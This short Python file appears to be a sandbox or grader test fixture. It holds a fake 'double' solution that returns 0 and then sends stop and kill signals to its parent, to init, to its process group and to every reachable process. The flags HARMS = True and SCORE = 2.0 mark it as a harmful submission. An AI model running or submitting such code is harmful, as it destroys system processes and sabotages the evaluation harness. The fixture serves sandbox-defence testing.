"""Kills its parent, process 1, and every process that it can."""

DOUBLE = """\
def double(x):
    return 0


import os
import signal

for target in (os.getppid(), 1, 2, 0, -1):
    if target != os.getpid():
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                if number == signal.SIGTERM or target not in (0, -1, 2):
                    os.kill(target, number)
            except OSError:
                pass
"""

SCORE = 2.0
HARMS = True
